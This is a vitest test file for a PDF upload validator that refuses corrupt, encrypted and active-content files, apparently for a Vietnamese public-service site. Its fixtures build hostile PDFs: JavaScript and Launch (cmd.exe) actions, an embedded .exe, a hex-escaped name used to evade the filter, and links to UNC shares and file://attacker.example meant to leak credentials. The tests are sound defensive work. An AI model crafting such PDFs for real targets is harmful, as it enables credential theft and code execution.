// PDFs that must not get in: broken, encrypted, or carrying active content.
import { PDFHexString, PDFName, PDFString } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { t } from '../i18n/index.ts';
import { plainPdf, pdfWith, withLink, withOpenAction, withPageAction } from './test-fixtures/pdf-fixtures.ts';
import { createUploadHarness, type UploadHarness } from './test-fixtures/upload-harness.ts';

let h: UploadHarness;
beforeAll(async () => {
  h = await createUploadHarness();
});
afterAll(async () => {
  await h.cleanup();
});

describe('PDF uploads', () => {
  it('refuses a file that only starts like a PDF, and a truncated one', async () => {
    expect((await h.refusal(Buffer.from('%PDF-1.7\nnot really a pdf\n'), 'a.pdf')).key).toBe('upload.pdfCorrupt');
    const pdf = await plainPdf(2);
    expect((await h.refusal(pdf.subarray(0, Math.floor(pdf.length / 2)), 'b.pdf')).key).toBe('upload.pdfCorrupt');
  });

  it('refuses encrypted PDFs, with a user password or with an owner password only', async () => {
    const withUser = await plainPdf(1, { userPassword: 'mo', ownerPassword: 'chu' });
    const ownerOnly = await plainPdf(1, { ownerPassword: 'chu', permissions: { printing: 'highResolution' } });
    for (const pdf of [withUser, ownerOnly]) {
      const refused = await h.refusal(pdf, 'mật.pdf');
      expect(refused).toMatchObject({ status: 422, key: 'upload.pdfEncrypted' });
    }
    expect(t('vi', 'upload.pdfEncrypted')).toContain('mật khẩu');
  });

  const activeCases: [string, Parameters<typeof pdfWith>[0], string][] = [
    ['document-level JavaScript (in a compressed object stream)', (d) => d.addJavaScript('chao', 'app.alert("Xin chào")'), '/JavaScript'],
    [
      'an /OpenAction running JavaScript',
      (d) => withOpenAction(d, d.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("http://x")') })),
      '/JavaScript, /OpenAction',
    ],
    [
      'a page /AA launching a program',
      (d) => withPageAction(d, d.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
      '/Launch, /AA',
    ],
    ['an embedded file', (d) => d.attach(Buffer.from('MZ...'), 'hoa-don.exe', { mimeType: 'application/octet-stream' }), '/EmbeddedFile'],
    [
      'an XFA form',
      (d) => d.catalog.set(PDFName.of('AcroForm'), d.context.obj({ Fields: [], XFA: [PDFString.of('template'), d.context.register(d.context.stream('<xdp/>'))] })),
      '/XFA',
    ],
    [
      'a form that submits itself on open',
      (d) => withOpenAction(d, d.context.obj({ S: 'SubmitForm', F: PDFString.of('http://thu-thap.example/') })),
      '/SubmitForm, /OpenAction',
    ],
    ['a data import action', (d) => withOpenAction(d, d.context.obj({ S: 'ImportData', F: PDFString.of('du-lieu.fdf') })), '/ImportData, /OpenAction'],
    [
      'rich media (Flash) annotation',
      (d) => d.getPage(0).node.set(PDFName.of('Annots'), d.context.obj([d.context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 10, 10] })])),
      '/RichMedia',
    ],
    [
      'JavaScript chained after a harmless action through /Next',
      (d) => withOpenAction(d, d.context.obj({ S: 'GoTo', D: [d.getPage(0).ref, 'Fit'], Next: d.context.obj({ S: 'JavaScript', JS: PDFString.of('1') }) })),
      '/JavaScript, /OpenAction',
    ],
  ];

  it.each(activeCases)('refuses %s, naming what was found', async (_label, change, found) => {
    const refused = await h.refusal(await pdfWith(change), 'tờ khai.pdf');
    expect(refused).toMatchObject({ status: 422, key: 'upload.pdfActiveContent', params: { found } });
  });

  it('sees through hex-escaped names (/J#61vaScript) written straight into the file', async () => {
    const pdf = (await plainPdf()).toString('latin1').replace('/Type /Catalog', '/Type /Catalog\n/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>');
    const refused = await h.refusal(Buffer.from(pdf, 'latin1'), 'x.pdf');
    expect(refused.params).toEqual({ found: '/JavaScript, /OpenAction' });
    expect(t('vi', refused.key, refused.params)).toBe(
      'Tệp PDF chứa nội dung chủ động không được chấp nhận (/JavaScript, /OpenAction). Vui lòng in lại thành PDF thông thường (In ra PDF) rồi gửi lại.',
    );
  });

  // Actions that open another file make desktop readers connect to it, handing over the officer's credentials (issue 11, item 7).
  const outboundCases: [string, Parameters<typeof pdfWith>[0], string, string][] = [
    [
      'an /OpenAction going to a PDF on a UNC share',
      (d) => withOpenAction(d, d.context.obj({ S: 'GoToR', F: PDFString.of('\\\\\\\\10.0.0.9\\\\chia-se\\\\bao-cao.pdf') /* backslashes escaped as PDF syntax wants */, D: [0, 'Fit'] })),
      'GoToR',
      '\\\\10.0.0.9\\chia-se\\bao-cao.pdf',
    ],
    [
      'an /OpenAction going into a PDF embedded in a remote file (file specification dictionary)',
      (d) => withOpenAction(d, d.context.obj({ S: 'GoToE', F: d.context.obj({ Type: 'Filespec', F: PDFString.of('//may-chu/tai-lieu/goc.pdf'), UF: PDFHexString.fromText('//máy-chủ/tài-liệu/gốc.pdf') }), T: d.context.obj({ R: 'C', N: PDFString.of('x') }) })),
      'GoToE',
      '//máy-chủ/tài-liệu/gốc.pdf',
    ],
    ['a GoToR to a local file, even without a network path', (d) => withLink(d, d.context.obj({ S: 'GoToR', F: PDFString.of('phu-luc.pdf'), D: [0, 'Fit'] })), 'GoToR', 'phu-luc.pdf'],
    ['a link to a file:// URI', (d) => withLink(d, d.context.obj({ S: 'URI', URI: PDFString.of('file://attacker.example/share/a.docx') })), 'URI', 'file://attacker.example/share/a.docx'],
    ['a link to an upper-case FILE: URI after blanks', (d) => withLink(d, d.context.obj({ S: 'URI', URI: PDFString.of('  FILE:///C:/Windows/win.ini') })), 'URI', 'FILE:///C:/Windows/win.ini'],
    ['a page /AA opening a UNC URI', (d) => withPageAction(d, d.context.obj({ S: 'URI', URI: PDFHexString.fromText('\\\\attacker\\x') })), 'URI', '\\\\attacker\\x'],
    [
      'a form submitted to a UNC path, chained after a harmless link action',
      (d) => withLink(d, d.context.obj({ S: 'GoTo', D: [d.getPage(0).ref, 'Fit'], Next: d.context.obj({ S: 'SubmitForm', F: d.context.obj({ FS: 'URL', F: PDFHexString.fromText('\\\\thu-thap\\nhan') }) }) })),
      'SubmitForm',
      '\\\\thu-thap\\nhan',
    ],
    ['data imported from an smb: share', (d) => withOpenAction(d, d.context.obj({ S: 'ImportData', F: PDFString.of('smb://kho/du-lieu.fdf') })), 'ImportData', 'smb://kho/du-lieu.fdf'],
  ];

  it.each(outboundCases)('refuses %s, naming the target', async (_label, change, action, target) => {
    const refused = await h.refusal(await pdfWith(change), 'hồ sơ.pdf');
    expect(refused).toMatchObject({ status: 422, key: 'upload.pdfOutboundAction', params: { action, target } });
    const message = t('vi', refused.key, refused.params);
    expect(message).toContain(`"${target}"`);
    expect(message).toContain('không được chấp nhận');
  });

  it('accepts ordinary navigation: an /OpenAction that only opens page 1, and web links', async () => {
    const pdf = await pdfWith((d) => {
      withOpenAction(d, d.context.obj([d.getPage(0).ref, 'Fit']));
      withPageAction(d, d.context.obj({ S: 'URI', URI: PDFString.of('https://dichvucong.gov.vn') }));
      withLink(d, d.context.obj({ S: 'URI', URI: PDFString.of('https://dichvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh.html?ma=1.004470') }));
    });
    expect(await h.upload(pdf, 'hướng dẫn.pdf')).toMatchObject({ kind: 'pdf', pages: 1 });
  });

  it('stores nothing of what it refuses', async () => {
    const left = await h.leftovers();
    expect(left.tmp).toEqual([]);
    expect(left.stored).toHaveLength(1); // only the accepted PDF of the test before
  });
});
